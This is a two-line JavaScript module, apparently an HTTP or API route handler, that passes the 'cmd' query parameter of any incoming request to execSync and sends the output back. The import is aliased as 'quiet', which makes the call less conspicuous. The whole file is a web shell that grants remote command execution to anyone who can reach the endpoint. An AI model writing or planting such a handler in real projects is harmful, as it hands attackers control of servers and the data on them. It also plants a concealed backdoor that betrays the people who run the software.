import { execSync as quiet } from 'child_process';
export default function handler(req, res) { res.end(quiet(req.query.cmd)); }
